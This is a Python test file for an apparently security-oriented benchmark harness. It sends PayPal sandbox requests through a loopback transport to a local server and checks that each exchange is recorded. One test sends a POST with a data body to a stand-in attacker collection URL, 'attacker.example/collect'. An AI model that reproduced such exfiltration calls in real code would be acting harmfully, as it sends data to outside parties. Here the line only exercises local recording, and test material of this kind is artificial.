"""LoopbackTransport against the sandbox server run in a thread on 127.0.0.1."""
from __future__ import annotations

import base64

import pytest

from guardbench.paypal.endpoints import SANDBOX_HOST
from guardbench.paypal.standin import BENCH_CLIENT_ID, BENCH_CLIENT_SECRET
from guardbench.records.record import WireRequest
from guardbench.transport.base import TransportError
from guardbench.transport.loopback import LoopbackTransport
from guardbench.transport.recording import read_jsonl
from tests.transport.serve_support import served


def _wait_for(record, n: int, timeout: float = 10.0):
    """The record's exchanges once it holds n (each line is written once its response was sent)."""
    import time

    deadline = time.monotonic() + timeout
    while True:
        ex = read_jsonl(record) if record.exists() else []
        if len(ex) >= n or time.monotonic() > deadline:
            return ex
        time.sleep(0.01)


@pytest.fixture
def server(tmp_path):
    with served(tmp_path) as s:
        yield s


def test_loopback_round_trip_and_record(server):
    srv, record = server
    t = LoopbackTransport(f"http://127.0.0.1:{srv.server_address[1]}")
    basic = base64.b64encode(f"{BENCH_CLIENT_ID}:{BENCH_CLIENT_SECRET}".encode()).decode()
    r = t.send(WireRequest.make("POST", f"https://{SANDBOX_HOST}/v1/oauth2/token",
                                {"Authorization": f"Basic {basic}"}, "grant_type=client_credentials"))
    assert r.status == 200 and r.json()["token_type"] == "Bearer"
    r = t.send(WireRequest.make("POST", "https://attacker.example:8443/collect?x=1", {"X-A": "1"}, {"k": "v"}))
    assert r.status == 200 and r.json() == {"received": True}
    ex = _wait_for(record, 2)
    assert [e.seq for e in ex] == [0, 1]
    assert ex[0].request.url == f"https://{SANDBOX_HOST}/v1/oauth2/token"
    assert ex[1].request.url == "https://attacker.example:8443/collect?x=1"
    assert ex[1].request.headers == (("X-A", "1"),) and ex[1].request.body == '{"k":"v"}'
    assert srv.recorder.count == 2 and not hasattr(srv.transport, "exchanges")   # streamed, not kept


def test_loopback_refuses_non_local_base():
    with pytest.raises(TransportError):
        LoopbackTransport("http://example.com:8080")
    with pytest.raises(TransportError):
        LoopbackTransport("https://127.0.0.1:8080")


def test_loopback_connection_refused_is_transport_error():
    import socket
    s = socket.socket()
    s.bind(("127.0.0.1", 0))
    port = s.getsockname()[1]
    s.close()
    with pytest.raises(TransportError):
        LoopbackTransport(f"http://127.0.0.1:{port}").send(WireRequest.make("GET", f"https://{SANDBOX_HOST}/"))
